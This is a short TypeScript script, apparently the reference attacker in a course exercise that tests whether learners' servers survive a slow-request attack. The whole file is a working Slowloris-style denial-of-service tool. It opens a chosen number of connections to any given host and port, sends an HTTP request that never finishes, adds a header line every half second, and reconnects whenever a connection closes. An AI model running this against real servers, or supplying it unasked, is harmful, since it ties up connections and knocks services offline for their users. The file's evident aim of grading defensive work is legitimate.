/** The author's own attack, so that a server is judged whatever the learner's attack does. */
import net from 'node:net'

const [host, port, count] = process.argv.slice(2)

function begin(): void {
  const socket = net.connect(Number(port), host)
  socket.write('GET / HTTP/1.1\r\nHost: a\r\n')
  const more = setInterval(() => socket.write('X-More: yes\r\n'), 500)
  socket.on('error', () => {})
  socket.on('close', () => {
    clearInterval(more)
    setTimeout(begin, 200)
  })
}

for (let i = 0; i < Number(count); i++) begin()
